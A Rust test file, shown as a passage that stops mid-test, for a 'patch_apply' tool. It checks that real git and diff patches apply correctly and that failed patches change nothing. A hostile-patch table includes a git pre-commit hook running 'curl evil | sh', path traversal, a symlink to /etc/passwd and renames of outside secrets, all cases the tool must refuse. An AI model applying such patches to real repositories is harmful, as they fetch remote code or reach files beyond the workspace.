//! `patch_apply` through the real stack, on patches written by real `git diff` and `diff -u`.
//!
//! Each test builds a workspace (`base/ws`) beside an `outside` directory holding a secret, and
//! checks files with std (never through the tool under test).

use std::collections::BTreeMap;
use std::io;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use tempfile::TempDir;
use tool_core::workspace::{Backend, DirEntry, LocalFs, Metadata, ReadSeek, Root};
use tool_core::{
    ErrorKind, Limits, MemoryAudit, Policy, Registry, Stack, ToolContext, ToolError, ToolOutput,
    Workspace, WsPath,
};

const SECRET: &str = "OUTSIDE-SECRET";

struct Fx {
    _dir: TempDir,
    base: PathBuf,
    root: PathBuf,
    outside: PathBuf,
    stack: Stack,
    ctx: ToolContext,
}

fn stack() -> Stack {
    let mut r = Registry::new();
    r.register_all(tools_fs::tools(&Default::default()))
        .expect("register");
    Stack::new(r)
}

impl Fx {
    fn new() -> Fx {
        Fx::with(|root| Workspace::local(root).expect("workspace"))
    }

    fn with(make: impl FnOnce(&Path) -> Workspace) -> Fx {
        let dir = tempfile::tempdir().expect("tempdir");
        let base = std::fs::canonicalize(dir.path()).expect("canonicalize");
        let root = base.join("ws");
        let outside = base.join("outside");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("secret"), SECRET).unwrap();
        let ws = make(&root);
        let ctx = ToolContext::new(
            ws,
            Arc::new(Policy::supervised()),
            Arc::new(Limits::default()),
        );
        Fx {
            _dir: dir,
            base,
            root,
            outside,
            stack: stack(),
            ctx,
        }
    }

    fn write(&self, rel: &str, content: &str) {
        let p = self.root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root.join(rel))
            .unwrap_or_else(|e| panic!("reading {rel}: {e}"))
    }

    fn exists(&self, rel: &str) -> bool {
        self.root.join(rel).symlink_metadata().is_ok()
    }

    /// Every file under the workspace and its bytes (links as `-> target`).
    fn snapshot(&self) -> BTreeMap<String, Vec<u8>> {
        fn walk(dir: &Path, base: &Path, out: &mut BTreeMap<String, Vec<u8>>) {
            for e in std::fs::read_dir(dir).unwrap() {
                let e = e.unwrap();
                let p = e.path();
                let rel = p.strip_prefix(base).unwrap().to_string_lossy().into_owned();
                let ft = e.file_type().unwrap();
                if ft.is_symlink() {
                    let t = std::fs::read_link(&p).unwrap();
                    out.insert(rel, format!("-> {}", t.display()).into_bytes());
                } else if ft.is_dir() {
                    out.insert(format!("{rel}/"), Vec::new());
                    walk(&p, base, out);
                } else {
                    out.insert(rel, std::fs::read(&p).unwrap());
                }
            }
        }
        let mut out = BTreeMap::new();
        walk(&self.root, &self.root, &mut out);
        out
    }

    fn assert_outside_intact(&self) {
        assert_eq!(
            std::fs::read_to_string(self.outside.join("secret")).unwrap(),
            SECRET
        );
        let names: Vec<_> = std::fs::read_dir(&self.outside).unwrap().collect();
        assert_eq!(names.len(), 1, "something was created outside");
        let mut top: Vec<String> = std::fs::read_dir(&self.base)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        top.sort();
        assert_eq!(
            top,
            ["outside", "ws"],
            "something was created beside the workspace"
        );
    }

    async fn call(&self, args: Value) -> Result<ToolOutput, ToolError> {
        self.stack
            .call_json("patch_apply", &args.to_string(), self.ctx.for_call())
            .await
    }

    async fn patch(&self, patch: &str) -> Result<ToolOutput, ToolError> {
        self.call(json!({ "patch": patch })).await
    }
}

fn text(out: &ToolOutput) -> String {
    out.joined_text()
}

#[track_caller]
fn expect_err(r: Result<ToolOutput, ToolError>, kind: ErrorKind, needle: &str, case: &str) {
    match r {
        Err(e) => {
            assert_eq!(e.kind(), kind, "{case}: wrong kind for `{e}`");
            assert!(
                e.to_string().contains(needle),
                "{case}: `{e}` should contain `{needle}`"
            );
        }
        Ok(out) => panic!("{case}: expected a {kind} error, got {}", text(&out)),
    }
}

// ---------------------------------------------------------------------------------------------
// Real patches from git and diff.
// ---------------------------------------------------------------------------------------------

fn run(cmd: &mut Command) -> String {
    let out = cmd.output().expect("run a patch generator");
    // `diff` exits 1 when the inputs differ.
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{cmd:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8 patch")
}

fn git(dir: &Path) -> Command {
    let mut c = Command::new("git");
    c.current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "core.autocrlf=false",
            "-c",
            "color.ui=false",
            "-c",
            "diff.noprefix=false",
        ]);
    c
}

fn put(dir: &Path, files: &[(&str, &str)]) {
    for (rel, content) in files {
        let p = dir.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }
}

/// `git diff --cached -M` of a repository changed from `before` to `after`.
fn git_diff(before: &[(&str, &str)], after: &[(&str, &str)]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    run(git(d).args(["init", "-q"]));
    put(d, before);
    run(git(d).args(["add", "-A"]));
    run(git(d).args(["commit", "-qm", "before", "--allow-empty"]));
    run(git(d)
        .args(["rm", "-rq", "--cached", "."])
        .arg("--ignore-unmatch"));
    for (rel, _) in before {
        std::fs::remove_file(d.join(rel)).unwrap();
    }
    put(d, after);
    run(git(d).args(["add", "-A"]));
    run(git(d).args(["diff", "--cached", "-M"]))
}

/// `diff -u` of two texts, labelled `a/NAME` and `b/NAME` like a model writes them.
fn diff_u(name: &str, old: &str, new: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    let (o, n) = (dir.path().join("old"), dir.path().join("new"));
    std::fs::write(&o, old).unwrap();
    std::fs::write(&n, new).unwrap();
    run(Command::new("diff")
        .arg("-u")
        .arg("--label")
        .arg(format!("a/{name}"))
        .arg("--label")
        .arg(format!("b/{name}"))
        .arg(&o)
        .arg(&n))
}

fn numbered(n: usize) -> String {
    (1..=n).map(|i| format!("line {i}\n")).collect()
}

// ---------------------------------------------------------------------------------------------
// Formats.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn git_multi_file_patch_with_new_deleted_and_renamed_files() {
    let a_before = numbered(30);
    let a_after = a_before
        .replace("line 3\n", "line three\n")
        .replace("line 25\n", "line 25\nline 25.5\n");
    let r_before = "one\ntwo\nthree\nfour\nfive\nsix\nseven\n";
    let r_after = "one\ntwo\nthree\nfour\nfive\nsix\nSEVEN\n";
    let before = [
        ("src/a.rs", a_before.as_str()),
        ("old.txt", "keep me?\n"),
        ("r.txt", r_before),
        (
            "mv/same.txt",
            "unchanged content\nthat is long enough\nto be a rename\n",
        ),
    ];
    let after = [
        ("src/a.rs", a_after.as_str()),
        ("new dir/new file.txt", "hello\nworld\n"),
        ("r2.txt", r_after),
        ("empty", ""),
        (
            "moved/same.txt",
            "unchanged content\nthat is long enough\nto be a rename\n",
        ),
    ];
    let patch = git_diff(&before, &after);
    assert!(patch.contains("rename from r.txt"), "{patch}");
    assert!(patch.contains("deleted file mode"), "{patch}");

    let f = Fx::new();
    for (rel, content) in before {
        f.write(rel, content);
    }
    let out = f.patch(&patch).await.expect("the patch applies");
    for (rel, content) in after {
        assert_eq!(f.read(rel), content, "{rel}");
    }
    for gone in ["old.txt", "r.txt", "mv/same.txt"] {
        assert!(!f.exists(gone), "{gone} should be gone");
    }
    let t = text(&out);
    assert!(t.starts_with("Applied the patch to 6 files:"), "{t}");
    for line in [
        "M src/a.rs (+2 -1)",
        "A new dir/new file.txt",
        "A empty",
        "D old.txt",
        "R r.txt → r2.txt (+1 -1)",
        "R mv/same.txt → moved/same.txt",
    ] {
        assert!(t.lines().any(|l| l == line), "missing `{line}` in\n{t}");
    }
    let files = &out.structured.unwrap()["files"];
    let renamed = files
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["status"] == "renamed" && v["path"] == "r2.txt")
        .expect("the rename is listed");
    assert_eq!(
        renamed,
        &json!({"status": "renamed", "from": "r.txt", "path": "r2.txt", "added": 1, "removed": 1})
    );
}

#[tokio::test]
async fn plain_diff_u_and_diff_run_output() {
    let f = Fx::new();
    let old = numbered(12);
    let new = old.replace("line 6\n", "line six\n");
    f.write("notes.txt", &old);
    let out = f.patch(&diff_u("notes.txt", &old, &new)).await.unwrap();
    assert_eq!(f.read("notes.txt"), new);
    assert_eq!(
        text(&out),
        "Applied the patch to 1 file:\nM notes.txt (+1 -1)"
    );

    // `diff -ruN before after` from a directory holding both trees.
    let trees = tempfile::tempdir().unwrap();
    put(
        trees.path(),
        &[
            ("before/keep.txt", "a\nb\nc\n"),
            ("before/gone.txt", "bye\n"),
            ("after/keep.txt", "a\nB\nc\n"),
            ("after/born.txt", "hi\n"),
        ],
    );
    let patch = run(Command::new("diff")
        .current_dir(trees.path())
        .args(["-ruN", "before", "after"]));
    assert!(patch.contains("1970-01-01"), "{patch}");
    f.write("keep.txt", "a\nb\nc\n");
    f.write("gone.txt", "bye\n");
    let out = f.patch(&patch).await.unwrap();
    assert_eq!(f.read("keep.txt"), "a\nB\nc\n");
    assert_eq!(f.read("born.txt"), "hi\n");
    assert!(!f.exists("gone.txt"));
    let t = text(&out);
    assert!(t.contains("A born.txt") && t.contains("D gone.txt"), "{t}");
}

#[tokio::test]
async fn hunks_are_found_after_offset_drift() {
    let f = Fx::new();
    let old = numbered(40);
    let new = old
        .replace("line 10\n", "line ten\n")
        .replace("line 30\n", "line thirty\n");
    let patch = diff_u("drift.txt", &old, &new);
    // The file gained lines above both hunks since the patch was made.
    let drifted = format!("added 1\nadded 2\nadded 3\n{old}");
    f.write("drift.txt", &drifted);
    let out = f.patch(&patch).await.unwrap();
    assert_eq!(
        f.read("drift.txt"),
        format!("added 1\nadded 2\nadded 3\n{new}")
    );
    let t = text(&out);
    assert!(
        t.contains("hunk 1 of drift.txt applied at line 10 (offset +3 lines)"),
        "{t}"
    );
    assert!(t.contains("hunk 2 of drift.txt applied"), "{t}");
    assert_eq!(
        out.structured.unwrap()["notes"].as_array().unwrap().len(),
        2
    );

    // Lines removed above: drift backwards.
    let shrunk: String = old.lines().skip(2).map(|l| format!("{l}\n")).collect();
    f.write("drift.txt", &shrunk);
    f.patch(&patch).await.unwrap();
    let want: String = new.lines().skip(2).map(|l| format!("{l}\n")).collect();
    assert_eq!(f.read("drift.txt"), want);
}

#[tokio::test]
async fn trailing_whitespace_differences_are_tolerated() {
    let f = Fx::new();
    let clean = "fn a() {\n    one();\n    two();\n}\n";
    let new = "fn a() {\n    one();\n    three();\n}\n";
    let patch = diff_u("ws.rs", clean, new);
    f.write("ws.rs", "fn a() {  \n    one();\t\n    two();   \n}\n");
    let out = f.patch(&patch).await.unwrap();
    // Context lines keep the file's own whitespace; only the changed line is the patch's.
    assert_eq!(
        f.read("ws.rs"),
        "fn a() {  \n    one();\t\n    three();\n}\n"
    );
    assert!(text(&out).contains("trailing whitespace is ignored"));
}

#[tokio::test]
async fn crlf_files_keep_their_line_endings() {
    let f = Fx::new();
    let old = "first\r\nsecond\r\nthird\r\n";
    let new = "first\r\nSECOND\r\nthird\r\nfourth\r\n";
    // A real git diff of a CRLF file carries the CRs in its lines.
    let patch = git_diff(&[("dos.txt", old)], &[("dos.txt", new)]);
    assert!(patch.contains("-second\r\n"), "{patch:?}");
    f.write("dos.txt", old);
    f.patch(&patch).await.unwrap();
    assert_eq!(f.read("dos.txt"), new);

    // A model's LF patch against a CRLF file: added lines get CRLF too.
    f.write("dos2.txt", old);
    f.patch("--- a/dos2.txt\n+++ b/dos2.txt\n@@ -1,3 +1,3 @@\n first\n-second\n+2nd\n third\n")
        .await
        .unwrap();
    assert_eq!(f.read("dos2.txt"), "first\r\n2nd\r\nthird\r\n");

    // A patch sent with CRLF line endings against an LF file: the file stays LF.
    f.write("unix.txt", "a\nb\n");
    f.patch("--- a/unix.txt\r\n+++ b/unix.txt\r\n@@ -1,2 +1,2 @@\r\n a\r\n-b\r\n+c\r\n")
        .await
        .unwrap();
    assert_eq!(f.read("unix.txt"), "a\nc\n");
}

#[tokio::test]
async fn no_newline_at_end_of_file_both_ways() {
    let f = Fx::new();
    for (old, new) in [
        ("a\nb\nc\n", "a\nb\nC"),
        ("a\nb\nc", "a\nb\nc\n"),
        ("a\nb\nc", "a\nB\nc"),
        ("x", "y"),
        ("", "now\n"),
    ] {
        let patch = git_diff(&[("t.txt", old)], &[("t.txt", new)]);
        f.write("t.txt", old);
        f.patch(&patch)
            .await
            .unwrap_or_else(|e| panic!("{old:?} → {new:?}: {e}\n{patch}"));
        assert_eq!(f.read("t.txt"), new, "{old:?} → {new:?}\n{patch}");
    }
}

#[tokio::test]
async fn envelope_add_update_delete_move() {
    let f = Fx::new();
    f.write(
        "src/app.py",
        "class App:\n    def start(self):\n        return 1\n\n    def run(self):\n        return 1\n",
    );
    f.write("obsolete.txt", "old\n");
    f.write("README", "first\nsecond\nthird\n");
    let patch = "*** Begin Patch
*** Add File: docs/new.md
+# Title
+
+body
*** Delete File: obsolete.txt
*** Update File: src/app.py
*** Move to: src/main.py
@@ class App:
@@     def run(self):
-        return 1
+        return 2
*** Update File: README
@@
 second
-third
+THIRD
*** End of File
*** End Patch";
    let out = f.patch(patch).await.unwrap();
    assert_eq!(f.read("docs/new.md"), "# Title\n\nbody\n");
    assert!(!f.exists("obsolete.txt"));
    assert!(!f.exists("src/app.py"));
    assert_eq!(
        f.read("src/main.py"),
        "class App:\n    def start(self):\n        return 1\n\n    def run(self):\n        return 2\n"
    );
    assert_eq!(f.read("README"), "first\nsecond\nTHIRD\n");
    assert_eq!(
        text(&out),
        "Applied the patch to 4 files:\nA docs/new.md\nD obsolete.txt\nR src/app.py → src/main.py (+1 -1)\nM README (+1 -1)"
    );
}

// ---------------------------------------------------------------------------------------------
// All or nothing, and the failure messages.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_failing_hunk_in_the_second_file_leaves_the_first_unchanged() {
    let f = Fx::new();
    let a = numbered(10);
    let b = "fn main() {\n    let y = 0;\n    let x = 1;\n    println!(\"{x}\");\n}\n";
    let patch = git_diff(
        &[("a.txt", &a), ("src/b.rs", b), ("gone.txt", "x\n")],
        &[
            ("a.txt", &a.replace("line 5", "line five")),
            ("src/b.rs", &b.replace("x = 1", "x = 3")),
            ("added.txt", "new\n"),
        ],
    );
    f.write("a.txt", &a);
    f.write("gone.txt", "x\n");
    // The file changed since the patch was made.
    f.write("src/b.rs", &b.replace("x = 1", "x = 2"));
    let before = f.snapshot();
    let err = f.patch(&patch).await.unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Failed);
    let msg = err.to_string();
    assert!(
        msg.starts_with("patch for src/b.rs, hunk 1 (@@ -1,5 +1,5 @@): line 3 expected `    let x = 1;` but the file has `    let x = 2;`."),
        "{msg}"
    );
    assert!(msg.contains("> 3\t    let x = 2;"), "{msg}");
    assert!(
        msg.ends_with("Nothing was changed; read the file and regenerate the patch."),
        "{msg}"
    );
    assert_eq!(f.snapshot(), before, "nothing may change");
}

#[tokio::test]
async fn context_is_never_fuzzed_away() {
    let f = Fx::new();
    let old = numbered(8);
    let patch = diff_u("c.txt", &old, &old.replace("line 4\n", "line four\n"));
    // One context line (line 2) differs; the other five match.
    f.write("c.txt", &old.replace("line 2\n", "line two\n"));
    let before = f.snapshot();
    expect_err(
        f.patch(&patch).await,
        ErrorKind::Failed,
        "line 2 expected `line 2` but the file has `line two`",
        "one bad context line",
    );
    assert_eq!(f.snapshot(), before);
}

#[tokio::test]
async fn already_applied_patches_say_so() {
    let f = Fx::new();
    let old = numbered(8);
    let new = old.replace("line 4\n", "line four\n");
    f.write("c.txt", &new);
    expect_err(
        f.patch(&diff_u("c.txt", &old, &new)).await,
        ErrorKind::Failed,
        "may have been applied already",
        "applied twice",
    );
}

#[tokio::test]
async fn the_second_hunk_failing_names_hunk_2() {
    let f = Fx::new();
    let old = numbered(30);
    let new = old
        .replace("line 3\n", "line three\n")
        .replace("line 25\n", "line twenty-five\n");
    let patch = diff_u("h.txt", &old, &new);
    f.write("h.txt", &old.replace("line 26\n", "line 26 changed\n"));
    expect_err(
        f.patch(&patch).await,
        ErrorKind::Failed,
        "patch for h.txt, hunk 2 (@@ -22,7 +22,7 @@): line 26 expected `line 26` but the file has `line 26 changed`.",
        "hunk 2",
    );
    assert_eq!(
        f.read("h.txt"),
        old.replace("line 26\n", "line 26 changed\n")
    );
}

#[tokio::test]
async fn creating_an_existing_file_or_changing_a_missing_one_is_refused() {
    let f = Fx::new();
    f.write("here.txt", "x\n");
    expect_err(
        f.patch("--- /dev/null\n+++ b/here.txt\n@@ -0,0 +1 @@\n+y\n")
            .await,
        ErrorKind::Failed,
        "already exists",
        "add over existing",
    );
    expect_err(
        f.patch("--- a/missing.txt\n+++ b/missing.txt\n@@ -1 +1 @@\n-a\n+b\n")
            .await,
        ErrorKind::NotFound,
        "does not exist",
        "modify missing",
    );
    expect_err(
        f.patch("*** Begin Patch\n*** Delete File: missing.txt\n*** End Patch\n")
            .await,
        ErrorKind::NotFound,
        "does not exist",
        "delete missing",
    );
    // A deletion whose lines no longer match the file.
    expect_err(
        f.patch("--- a/here.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-other\n")
            .await,
        ErrorKind::Failed,
        "line 1 expected `other` but the file has `x`",
        "delete changed",
    );
    assert_eq!(f.read("here.txt"), "x\n");
    // A model's creation patch without /dev/null still creates the file.
    f.patch("--- fresh.txt\n+++ fresh.txt\n@@ -0,0 +1,2 @@\n+a\n+b\n")
        .await
        .unwrap();
    assert_eq!(f.read("fresh.txt"), "a\nb\n");
}

#[tokio::test]
async fn malformed_and_unsupported_patches_are_refused_before_anything_runs() {
    let f = Fx::new();
    f.write("f.txt", "a\nb\nc\n");
    let before = f.snapshot();
    for (patch, kind, needle) in [
        (
            "--- a/f.txt\n+++ b/f.txt\n@@ -1,3 +1,3 @@\n a\nb\n-c\n+C\n",
            ErrorKind::InvalidArgs,
            "does not start with ` `, `-`, `+`",
        ),
        (
            "diff --git a/i.png b/i.png\nindex 1..2 100644\nBinary files a/i.png and b/i.png differ\n",
            ErrorKind::InvalidArgs,
            "binary",
        ),
        ("hello\n", ErrorKind::InvalidArgs, "no file changes"),
        (
            "*** Begin Patch\n*** Update File: f.txt\n@@\n-a\n+A\n",
            ErrorKind::InvalidArgs,
            "cut off",
        ),
        (
            "@@ -1 +1 @@\n-a\n+A\n",
            ErrorKind::InvalidArgs,
            "pass `path`",
        ),
    ] {
        expect_err(f.patch(patch).await, kind, needle, patch);
    }
    assert_eq!(f.snapshot(), before);
}

// ---------------------------------------------------------------------------------------------
// `path`, and the SneakyCode alias.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn path_names_headerless_patches_and_restricts_multi_file_ones() {
    let f = Fx::new();
    f.write("one.txt", "1\n");
    f.write("two.txt", "2\n");
    f.call(json!({"path": "one.txt", "patch": "@@ -1 +1 @@\n-1\n+uno\n"}))
        .await
        .unwrap();
    assert_eq!(f.read("one.txt"), "uno\n");

    let both = "--- a/one.txt\n+++ b/one.txt\n@@ -1 +1 @@\n-uno\n+eins\n--- a/two.txt\n+++ b/two.txt\n@@ -1 +1 @@\n-2\n+zwei\n";
    let out = f
        .call(json!({"path": "two.txt", "patch": both}))
        .await
        .unwrap();
    assert_eq!(
        text(&out),
        "Applied the patch to 1 file:\nM two.txt (+1 -1)"
    );
    assert_eq!(
        (f.read("one.txt"), f.read("two.txt")),
        ("uno\n".into(), "zwei\n".into())
    );
    expect_err(
        f.call(json!({"path": "three.txt", "patch": both})).await,
        ErrorKind::InvalidArgs,
        "it changes `one.txt`, `two.txt`",
        "path not in patch",
    );

    // One file whose header names another: `path` wins, and the output says so.
    let out = f
        .call(json!({"path": "one.txt", "patch": "--- a/main.py\n+++ b/main.py\n@@ -1 +1 @@\n-uno\n+one\n"}))
        .await
        .unwrap();
    assert!(text(&out).contains("the patch names `main.py`; it was applied to one.txt"));
    assert_eq!(f.read("one.txt"), "one\n");
}

#[tokio::test]
async fn sneakycode_patch_apply_takes_file_path() {
    let f = Fx::new();
    f.write("app/main.py", "old line\nkeep\n");
    let mut r = Registry::new();
    r.register_all(tools_fs::tools(&Default::default()))
        .unwrap();
    let profiled = r.with_profile("sneakycode", tools_fs::ALIASES).unwrap();
    let spec = profiled.spec("patch_apply").expect("the alias exists");
    assert!(spec.input_schema["properties"]["file_path"].is_object());
    let stack = Stack::new(profiled);
    let args = json!({
        "file_path": "app/main.py",
        "patch": "--- a/app/main.py\n+++ b/app/main.py\n@@ -1 +1 @@\n-old line\n+new line\n",
    });
    stack
        .call_json("patch_apply", &args.to_string(), f.ctx.for_call())
        .await
        .unwrap();
    assert_eq!(f.read("app/main.py"), "new line\nkeep\n");
}

#[tokio::test]
async fn the_schema_has_patch_and_an_optional_path() {
    let r = stack();
    let spec = r.registry().spec("patch_apply").unwrap();
    assert_eq!(spec.input_schema["required"], json!(["patch"]));
    assert!(spec.input_schema["properties"]["path"].is_object());
    expect_err(
        r.call_json(
            "patch_apply",
            r#"{"patch": "x", "bogus": 1}"#,
            Fx::new().ctx,
        )
        .await,
        ErrorKind::InvalidArgs,
        "bogus",
        "unknown field",
    );
}

// ---------------------------------------------------------------------------------------------
// Hostile patches and their benign twins.
// ---------------------------------------------------------------------------------------------

fn add(path: &str) -> String {
    format!("--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+planted\n")
}

#[tokio::test]
async fn hostile_table_with_benign_twins() {
    // (case, patch builder given (root, outside), Ok(file that must now exist) | Err((kind, needle)))
    type Build = fn(&Path, &Path) -> String;
    type Want = Result<&'static str, (ErrorKind, &'static str)>;
    let cases: Vec<(&str, Build, Want)> = vec![
        (
            "`..` in +++",
            |_, _| add("b/../../etc/x"),
            Err((ErrorKind::Denied, "contains `..`")),
        ),
        ("twin: plain name", |_, _| add("b/ok.txt"), Ok("ok.txt")),
        (
            "`..` in an unused plain-diff name",
            |_, _| "--- a/ok.txt\n+++ b/../../etc/x\n@@ -1 +1 @@\n-seed\n+x\n".into(),
            Err((ErrorKind::Denied, "contains `..`")),
        ),
        (
            "absolute path outside",
            |_, out| add(&format!("{}/x", out.display())),
            Err((ErrorKind::Denied, "outside the workspace")),
        ),
        (
            "twin: absolute path inside",
            |root, _| add(&format!("{}/inside.txt", root.display())),
            Ok("inside.txt"),
        ),
        (
            ".git/hooks/pre-commit",
            |_, _| {
                "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n".into()
            },
            Err((ErrorKind::Denied, "inside a .git directory")),
        ),
        (
            "twin: hooks/pre-commit",
            |_, _| {
                "diff --git a/hooks/pre-commit b/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo ok\n".into()
            },
            Ok("hooks/pre-commit"),
        ),
        (
            "envelope into .git",
            |_, _| "*** Begin Patch\n*** Add File: .git/config\n+[core]\n*** End Patch\n".into(),
            Err((ErrorKind::Denied, "inside a .git directory")),
        ),
        (
            "symlink creation (120000)",
            |_, _| {
                "diff --git a/link b/link\nnew file mode 120000\nindex 0000000..a2cf6f2\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n".into()
            },
            Err((ErrorKind::Denied, "symbolic link")),
        ),
        (
            "twin: regular new file (100644)",
            |_, _| {
                "diff --git a/link b/link\nnew file mode 100644\nindex 0000000..a2cf6f2\n--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n".into()
            },
            Ok("link"),
        ),
        (
            "submodule (160000)",
            |_, _| {
                "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..a2cf6f2\n--- /dev/null\n+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit a2cf6f2\n".into()
            },
            Err((ErrorKind::Denied, "submodule")),
        ),
        (
            "context that does not match",
            |_, _| "--- a/seed.txt\n+++ b/seed.txt\n@@ -1,2 +1,2 @@\n seed\n-nope\n+x\n".into(),
            Err((
                ErrorKind::Failed,
                "line 2 expected `nope` but the file ends at line 1",
            )),
        ),
        (
            "twin: context that matches after drift",
            |_, _| "--- a/seed.txt\n+++ b/seed.txt\n@@ -7 +7 @@\n-seed\n+grown\n".into(),
            Ok("seed.txt"),
        ),
        (
            "rename into .git",
            |_, _| {
                "diff --git a/seed.txt b/.git/config\nsimilarity index 100%\nrename from seed.txt\nrename to .git/config\n".into()
            },
            Err((ErrorKind::Denied, "inside a .git directory")),
        ),
        (
            "twin: rename next to it",
            |_, _| {
                "diff --git a/seed.txt b/git/config\nsimilarity index 100%\nrename from seed.txt\nrename to git/config\n".into()
            },
            Ok("git/config"),
        ),
        (
            "a dangling link where a file would be created",
            |_, _| {
                format!(
                    "{}--- /dev/null\n+++ b/dangling\n@@ -0,0 +1 @@\n+x\n",
                    add("b/first.txt")
                )
            },
            Err((ErrorKind::Denied, "dangling is a symbolic link")),
        ),
        (
            "rename from outside",
            |_, _| {
                "diff --git a/x b/stolen\nsimilarity index 100%\nrename from ../outside/secret\nrename to stolen\n".into()
            },
            Err((ErrorKind::Denied, "contains `..`")),
        ),
        (
            "delete outside",
            |_, out| {
                format!(
                    "--- {}/secret\n+++ /dev/null\n@@ -1 +0,0 @@\n-{SECRET}\n",
                    out.display()
                )
            },
            Err((ErrorKind::Denied, "outside the workspace")),
        ),
        (
            "control character in a quoted name",
            |_, _| add("\"b/a\\001b\""),
            Err((ErrorKind::InvalidArgs, "control character")),
        ),
        (
            "raw NUL in a name",
            |_, _| add("b/a\0b"),
            Err((ErrorKind::InvalidArgs, "the control character '\\0'")),
        ),
        (
            "raw escape sequence in an envelope name",
            |_, _| "*** Begin Patch\n*** Add File: a\u{1b}[31mb\n+x\n*** End Patch\n".into(),
            Err((ErrorKind::InvalidArgs, "the control character '\\u{1b}'")),
        ),
        (
            "backslash as a separator",
            |_, _| add("b/src\\main.rs"),
            Err((
                ErrorKind::InvalidArgs,
                "`src\\\\main.rs`, which contains a backslash",
            )),
        ),
        (
            "twin: slash as the separator",
            |_, _| add("b/src/main.rs"),
            Ok("src/main.rs"),
        ),
        (
            "drive letter and backslash",
            |_, _| add("C:\\x"),
            Err((ErrorKind::InvalidArgs, "starts with the drive letter `C:`")),
        ),
        (
            "drive-relative name",
            |_, _| add("C:x"),
            Err((ErrorKind::InvalidArgs, "starts with the drive letter `C:`")),
        ),
        (
            "drive letter in an envelope",
            |_, _| "*** Begin Patch\n*** Add File: d:/x.txt\n+x\n*** End Patch\n".into(),
            Err((ErrorKind::InvalidArgs, "drive letter `d:`")),
        ),
        (
            "backslash in a rename target",
            |_, _| {
                "diff --git a/seed.txt b/dir\\seed.txt\nsimilarity index 100%\nrename from seed.txt\nrename to dir\\seed.txt\n".into()
            },
            Err((ErrorKind::InvalidArgs, "backslash")),
        ),
        (
            "twin: a colon later in the name",
            |_, _| add("b/notes:v2.txt"),
            Ok("notes:v2.txt"),
        ),
        (
            "through a link that leads out",
            |_, _| "--- a/out-link\n+++ b/out-link\n@@ -1 +1 @@\n-OUTSIDE-SECRET\n+owned\n".into(),
            Err((ErrorKind::Denied, "outside the workspace")),
        ),
        (
            "through a link that stays inside",
            |_, _| "--- a/in-link\n+++ b/in-link\n@@ -1 +1 @@\n-seed\n+owned\n".into(),
            Err((ErrorKind::Denied, "symbolic link")),
        ),
    ];
    for (case, build, want) in cases {
        let f = Fx::new();
        f.write("seed.txt", "seed\n");
        std::os::unix::fs::symlink(f.outside.join("secret"), f.root.join("out-link")).unwrap();
        std::os::unix::fs::symlink("seed.txt", f.root.join("in-link")).unwrap();
        std::os::unix::fs::symlink("missing-target.txt", f.root.join("dangling")).unwrap();
        let patch = build(&f.root, &f.outside);
        let before = f.snapshot();
        let got = f.patch(&patch).await;
        match want {
            Ok(rel) => {
                let out = got.unwrap_or_else(|e| panic!("{case}: {e}"));
                assert!(f.exists(rel), "{case}: {rel} missing; {}", text(&out));
            }
            Err((kind, needle)) => {
                expect_err(got, kind, needle, case);
                assert_eq!(f.snapshot(), before, "{case}: the workspace changed");
            }
        }
        f.assert_outside_intact();
    }
}

/// A hunk whose header counts disagree with its body is refused by name, and nothing is written
/// even when another file's hunks are fine; the twin with true counts applies to both files.
#[tokio::test]
async fn hunks_whose_counts_disagree_with_their_body_are_refused() {
    let one = "--- a/one.txt\n+++ b/one.txt\n@@ -1,2 +1,2 @@\n-1\n+uno\n 2\n";
    // (case, the second file's section, Ok(its content after) | Err(substring of the message))
    let cases: Vec<(&str, &str, Result<&str, &str>)> = vec![
        (
            "old count too big",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1,3 +1,2 @@\n-a\n+A\n b\n",
            Err(
                "Hunk 1 (`@@ -1,3 +1,2 @@`, line 9 of the patch) of two.txt declares 3 old and 2 new lines, but its body has 2 old lines",
            ),
        ),
        (
            "new count too small",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1,2 +1,1 @@\n-a\n+A\n b\n",
            Err("correct its header (for this body, `@@ -1,2 +1,2 @@`)"),
        ),
        (
            "body cut off",
            "--- a/two.txt\n+++ b/two.txt\n@@ -1,2 +1,3 @@\n-a\n+A\n",
